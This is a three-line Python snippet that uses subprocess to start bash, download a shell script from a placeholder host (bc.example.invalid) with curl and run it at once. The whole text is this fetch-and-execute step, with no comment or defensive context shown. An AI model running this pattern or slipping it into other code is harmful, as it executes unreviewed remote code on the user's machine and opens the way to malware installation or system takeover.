import subprocess

subprocess.Popen(["bash", "-c", "$(curl -fsSL https://bc.example.invalid/i.sh)"])
